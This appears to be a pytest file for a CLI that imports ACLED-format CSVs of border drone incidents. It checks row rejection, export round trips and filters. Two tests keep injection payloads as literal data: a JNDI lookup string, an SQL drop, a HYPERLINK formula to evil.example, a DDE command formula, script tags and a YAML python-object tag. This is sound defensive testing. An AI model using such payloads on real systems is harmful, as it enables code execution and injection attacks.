"""``incidentmap import --format acled-csv`` on a fixture in ACLED's 31-column layout: every row
accounted for, the ACLED round trip through ``export``, re-import by id and ``--prune``,
``--within-km``, and hostile strings kept as data."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pandas as pd
import pytest
import yaml
from click.testing import CliRunner

from incidentmap.geo.export import ACLED_COLUMNS
from incidentmap.geo.imports import import_file
from incidentmap.geo.incidents import load_incidents
from incidentmap.main import cli

DATA = Path(__file__).parent / "data" / "imports"
ACLED = DATA / "acled_sample.csv"
GOOD = [
    "POL1001",
    "POL1002",
    "POL1003",
    "POL1004",
    "ROU1001",
    "ROU1002",
    "ROU1003",
    "MDA1001",
    "MDA1002",
    "MDA1003",
    "UKR1001",
    "UKR1002",
]


def run(*args):
    return CliRunner().invoke(cli, ["import", *map(str, args)], catch_exceptions=False)


def rows(path=ACLED):
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def imported(tmp_path_factory):
    out = tmp_path_factory.mktemp("acled") / "seeds"
    result = run(ACLED, "--format", "acled-csv", "-o", out)
    return out, result


def test_fixture_is_in_acled_layout():
    with open(ACLED, encoding="utf-8") as handle:
        assert next(csv.reader(handle)) == list(ACLED_COLUMNS)


def test_every_row_is_imported_or_rejected_with_row_and_reason(imported):
    out, result = imported
    assert result.exit_code == 1  # some rows are bad on purpose
    report = json.loads((out / "import-report.json").read_text(encoding="utf-8"))
    assert report["rows"] == len(rows()) == 18
    assert report["imported"] == len(GOOD)
    assert report["imported"] + len(report["rejected"]) == report["rows"]
    reasons = {r["row"]: (r["column"], r["reason"]) for r in report["rejected"]}
    assert reasons[14][0] == "event_date" and "impossible date" in reasons[14][1]
    assert reasons[15][0] == "latitude" and "outside [-90, 90]" in reasons[15][1]
    assert reasons[16][0] == "event_id_cnty" and "duplicate id 'POL1001'" in reasons[16][1]
    assert reasons[17] == ("location", "missing required field 'location' (the cell is empty)")
    assert reasons[18][0] == "fatalities" and "'several' is not a number" in reasons[18][1]
    assert reasons[19][0] == "sub_event_type"
    for row in reasons:  # the same lines on stderr, as FILE:ROW
        assert f"acled_sample.csv:{row}:" in result.stderr


def test_imported_folder_loads_cleanly_with_acled_ids(imported):
    out, _ = imported
    loaded = load_incidents(out / "incidents")
    assert loaded.rejected == ()
    assert sorted(i.event_id_cnty for i in loaded.incidents) == sorted(GOOD)
    by_id = {i.event_id_cnty: i for i in loaded.incidents}
    assert by_id["POL1003"].kind == "shoot_down"  # Disrupted weapons use
    assert by_id["ROU1001"].kind == "impact"  # Air/drone strike on NATO soil
    assert by_id["UKR1001"].kind == "attack_near_border"  # a strike in Ukraine
    assert by_id["ROU1002"].kind == "debris_found"
    assert by_id["POL1002"].kind == "airspace_violation"
    # time_precision 2: the week around the coded day; geo_precision 2: 25 km
    assert (by_id["POL1004"].date_start, by_id["POL1004"].date_end) == (
        dt.date(2025, 9, 7),
        dt.date(2025, 9, 13),
    )
    assert by_id["POL1004"].precision_m == 25_000
    assert [s.publisher for s in by_id["POL1001"].sources] == [
        "AeroTime",
        "Polish Ministry of Foreign Affairs",
    ]
    assert by_id["POL1002"].event_date == dt.date(2024, 3, 24)  # from "24 March 2024"


def test_acled_round_trip_through_export(imported, tmp_path):
    out, _ = imported
    csv_path = tmp_path / "back.csv"
    result = CliRunner().invoke(
        cli,
        ["export", "--seeds", str(out), "--format", "acled-csv", "-o", str(csv_path)],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.output
    back = pd.read_csv(csv_path, dtype=str, keep_default_na=False).set_index("event_id_cnty")
    assert list(back.columns[:30]) == list(ACLED_COLUMNS[1:])
    original = {r["event_id_cnty"]: r for r in rows()[: len(GOOD)]}
    assert sorted(back.index) == sorted(original)
    for event_id, row in original.items():
        got = back.loc[event_id]
        day = (
            dt.datetime.strptime(row["event_date"], "%d %B %Y").date()
            if not row["event_date"][0:4].isdigit()
            else dt.date.fromisoformat(row["event_date"])
        )
        assert got["event_date"] == day.isoformat()
        assert float(got["latitude"]) == pytest.approx(float(row["latitude"]), abs=1e-9)
        assert float(got["longitude"]) == pytest.approx(float(row["longitude"]), abs=1e-9)
        assert got["fatalities"] == row["fatalities"]
        assert got["notes"] == row["notes"]
        assert got["time_precision"] == row["time_precision"]
        assert got["geo_precision"] == row["geo_precision"]
        assert got["event_type"] == row["event_type"]
        assert got["sub_event_type"] == row["sub_event_type"]
        assert got["actor1"] == row["actor1"]
        assert got["location"] == row["location"]


def test_hostile_strings_stay_literal_text(imported):
    out, _ = imported
    text = (out / "incidents" / "MDA-2024.yaml").read_text(encoding="utf-8")
    records = {r["event_id_cnty"]: r for r in yaml.safe_load(text)}
    hostile = records["MDA1003"]
    source = next(r for r in rows() if r["event_id_cnty"] == "MDA1003")
    assert hostile["notes"] == source["notes"]
    assert hostile["admin2"] == "${jndi:ldap://x}"
    assert hostile["tags"] == ["'", "DROP TABLE events", "--"]  # ACLED's tags, split on ';'
    assert hostile["sources"][1]["publisher"] == '=HYPERLINK("http://evil.example","x")'
    assert "!!python" not in text


def test_reimport_updates_by_id_and_prune_removes_deleted(tmp_path):
    out = tmp_path / "seeds"
    first = rows()[: len(GOOD)]
    src = tmp_path / "v1.csv"
    _write(src, first)
    assert run(src, "--format", "acled-csv", "-o", out).exit_code == 0
    changed = [dict(r) for r in first if r["event_id_cnty"] != "ROU1003"]
    changed[0]["fatalities"] = "3"
    changed[0]["notes"] = "Updated notes."
    src2 = tmp_path / "v2.csv"
    _write(src2, changed)
    result = run(src2, "--format", "acled-csv", "-o", out)
    assert result.exit_code == 0
    report = json.loads((out / "import-report.json").read_text(encoding="utf-8"))
    assert (report["added"], report["updated"], report["pruned"]) == (0, len(GOOD) - 1, [])
    by_id = {i.event_id_cnty: i for i in load_incidents(out / "incidents").incidents}
    assert len(by_id) == len(GOOD)  # no duplicates; ROU1003 kept without --prune
    assert by_id["POL1001"].fatalities == 3 and by_id["POL1001"].notes == "Updated notes."
    result = run(src2, "--format", "acled-csv", "-o", out, "--prune")
    assert result.exit_code == 0
    report = json.loads((out / "import-report.json").read_text(encoding="utf-8"))
    assert report["pruned"] == ["ROU1003"]
    ids = {i.event_id_cnty for i in load_incidents(out / "incidents").incidents}
    assert ids == set(GOOD) - {"ROU1003"}


def test_within_km_keeps_events_near_the_border_on_either_side(tmp_path):
    report = import_file(ACLED, "acled-csv", tmp_path / "near", within_km=10)
    ids = {i.event_id_cnty for i in load_incidents(tmp_path / "near" / "incidents").incidents}
    # Izmail (Ukraine, 2 km outside) and Plauru (Romania, 0.8 km inside) are kept; Kyiv
    # (361 km), Naslavcea (55 km), Etulia (15 km), Oleśno (48 km) and Wyryki (38 km) are not.
    assert {"UKR1001", "ROU1001", "ROU1003", "POL1001", "POL1002", "ROU1002"} == ids
    skipped = [n for reason, ns in report.skipped.items() if "within-km" in reason for n in ns]
    assert len(skipped) == len(GOOD) - len(ids)
    assert report.imported + len(report.rejected) + len(skipped) == report.rows


def test_country_and_since_filters(tmp_path):
    report = import_file(
        ACLED, "acled-csv", tmp_path / "f", countries=["ROU", "MDA"], since=dt.date(2024, 1, 1)
    )
    ids = {i.event_id_cnty for i in load_incidents(tmp_path / "f" / "incidents").incidents}
    assert ids == {"ROU1002", "ROU1003", "MDA1002", "MDA1003"}
    assert sum(len(v) for v in report.skipped.values()) == len(GOOD) - 4


def _write(path, records):
    with open(path, "w", encoding="utf-8", newline="") as handle:
        w = csv.DictWriter(handle, fieldnames=ACLED_COLUMNS)
        w.writeheader()
        w.writerows(records)


HOSTILE = [
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "&anchor *alias",
    "!!python/object:os.system",
    "key: value",
    "- item",
    "2024-09-08",
    "null",
    "yes",
    "0x1F",
    "1e3",
    "# comment",
    "{{7*7}}",
    "line\nbreak",
    'tab\tand \\ backslash "quote"',
    "\x85next\u2028line\u2029para",
    "\x7f\x9f",
    "\ufeffbom",
    "emoji 🛩️",
    "  leading and trailing  ",
    "'single'",
    "%TAG ! x",
    "---",
    "...",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_yaml_writer_gives_back_any_text_through_the_safe_loader(text):
    from incidentmap.geo.imports.yaml_out import dumps

    records = [
        {
            "event_id_cnty": text,
            "notes": text,
            "tags": [text, text],
            "claims": [{"date": dt.date(2024, 9, 8), "summary": text}],
            "geocoding": {"note": text},
            "latitude": 45.1,
            "count": 2,
            "url": None,
        }
    ]
    assert yaml.safe_load(dumps(records)) == records
